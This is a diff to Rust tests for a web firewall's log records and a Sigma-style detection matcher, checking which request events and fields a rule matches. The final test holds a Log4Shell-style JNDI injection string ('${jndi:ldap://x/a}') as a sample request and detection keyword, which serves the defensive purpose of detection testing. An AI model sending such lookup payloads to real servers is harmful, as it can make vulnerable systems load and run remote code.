@@ -7,6 +7,7 @@ use super::findings;
 fn request(event: &str, target: &str, status: u16) -> Value {
     let (path, query) = target.split_once('?').unwrap_or((target, ""));
     json!({
+        "class_uid": 4002,
         "bartizan": { "event": event },
         "src_endpoint": { "ip": "192.0.2.7" },
         "http_request": {
@@ -59,17 +60,39 @@ fn keywords_are_sought_in_the_whole_line() {
 }
 
 #[test]
-fn a_request_is_one_line() {
+fn every_request_is_a_line() {
     let detection = "    selection: { cs-method: GET }\n    condition: selection\n";
-    for (event, expected) in [
-        ("request_allowed", true),
-        ("request_refused", true),
-        ("request_challenged", true),
-        // What else is said about a request that ends with one of those.
-        ("attack_detected", false),
-        ("rate_limit_exceeded", false),
-        ("authentication_failed", false),
-    ] {
-        assert_eq!(fires(detection, request(event, "/", 200)), expected, "{event}");
+    let events = [
+        "request_allowed",
+        "request_refused",
+        "request_challenged",
+        // Whatever was found about it, it is the one event that the request has.
+        "attack_detected",
+        "rate_limit_exceeded",
+        "upstream_failed",
+        "permission_denied",
+    ];
+    for event in events {
+        assert!(fires(detection, request(event, "/", 200)), "{event}");
     }
+    // What the audit trail tells of a refusal has no path; logins are no requests.
+    let detection = "    selection: { c-ip: 192.0.2.7 }\n    condition: selection\n";
+    let told = |class: u16, url: Value| {
+        json!({
+            "class_uid": class, "bartizan": { "event": "permission_denied" },
+            "src_endpoint": { "ip": "192.0.2.7" }, "http_request": url,
+        })
+    };
+    let url = || json!({ "url": { "path": "/" } });
+    assert!(fires(detection, told(4002, url())));
+    assert!(!fires(detection, told(4002, json!({ "uid": "a-request" }))));
+    assert!(!fires(detection, told(3002, url())));
+}
+
+#[test]
+fn what_the_firewall_lets_through_in_log_mode_is_seen() {
+    let detection =
+        "    keywords: ['${jndi:']\n    filter: { sc-status: 404 }\n    condition: keywords and not filter\n";
+    let answered = request("attack_detected", "/?q=${jndi:ldap://x/a}", 200);
+    assert!(fires(detection, answered));
 }
